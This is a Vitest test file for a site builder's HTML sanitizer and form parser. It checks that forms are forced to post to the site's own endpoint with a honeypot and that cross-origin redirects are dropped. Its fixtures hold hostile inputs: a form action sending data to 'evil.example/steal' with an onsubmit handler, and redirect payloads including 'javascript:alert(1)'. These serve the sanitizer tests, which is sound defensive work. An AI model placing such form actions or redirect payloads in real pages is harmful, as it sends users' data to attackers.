import { describe, expect, it } from 'vitest';

import { sanitizePageHtml } from '../sanitize.js';
import { FormKeys, HONEYPOT_FIELD } from './site-form.js';
import { parseForms } from './parse-forms.js';

const contact = `
<form data-form-name="Contact" data-form-success="Thanks, we will write back." data-form-task="task"
      action="https://evil.example/steal" method="get" enctype="text/plain" target="_blank" onsubmit="x()">
  <label for="c-name">Your name *</label><input id="c-name" name="name" type="text" required>
  <label for="c-email">E-mail</label><input id="c-email" name="email" type="email" required>
  <label>Phone <input name="phone" type="tel"></label>
  <label for="c-topic">Topic</label><select id="c-topic" name="topic"><option value="web">Web</option><option>Print</option></select>
  <textarea name="message"></textarea>
  <label><input type="checkbox" name="consent" required> I agree to be contacted *</label>
  <input type="hidden" name="secret" value="1"><input type="file" name="upload">
  <button type="submit">Send</button>
</form>`;

describe('site forms', () => {
  it('post to the site’s own form endpoint only, with a honeypot, whatever the project data said', () => {
    const html = sanitizePageHtml(contact);
    expect(html).toContain('action="/_forms/contact" method="post"');
    expect(html).not.toMatch(/evil|enctype|target=|onsubmit|method="get"/);
    expect(html).toContain(`name="${HONEYPOT_FIELD}"`);
  });

  it('keep a same-site redirect and drop one to another origin', () => {
    expect(sanitizePageHtml('<form data-form-redirect="/thanks"></form>')).toContain('data-form-redirect="/thanks"');
    for (const redirect of ['//evil.example', 'https://evil.example', '/\\evil.example', 'javascript:alert(1)']) {
      expect(sanitizePageHtml(`<form data-form-redirect="${redirect}"></form>`)).not.toContain('data-form-redirect');
    }
  });

  it('give forms of one name on one site addresses of their own', () => {
    const keys = new FormKeys();
    const first = sanitizePageHtml('<form data-form-name="Contact"></form>', undefined, keys);
    const second = sanitizePageHtml('<form data-form-name="Contact"></form><form></form>', undefined, keys);
    expect(first).toContain('/_forms/contact"');
    expect(second).toContain('/_forms/contact-2"');
    expect(second).toContain('/_forms/form"');
  });

  it('are read back from the published page with their fields, labels and settings', () => {
    const [form] = parseForms(sanitizePageHtml(contact));
    expect(form).toMatchObject({
      key: 'contact',
      name: 'Contact',
      success: 'Thanks, we will write back.',
      redirect: null,
      createsTask: true,
    });
    expect(form!.fields).toEqual([
      { name: 'name', type: 'text', label: 'Your name', required: true, options: [] },
      { name: 'email', type: 'email', label: 'E-mail', required: true, options: [] },
      { name: 'phone', type: 'tel', label: 'Phone', required: false, options: [] },
      { name: 'topic', type: 'select', label: 'Topic', required: false, options: ['web', 'Print'] },
      { name: 'message', type: 'textarea', label: 'message', required: false, options: [] },
      { name: 'consent', type: 'checkbox', label: 'I agree to be contacted', required: true, options: [] },
    ]);
  });
});
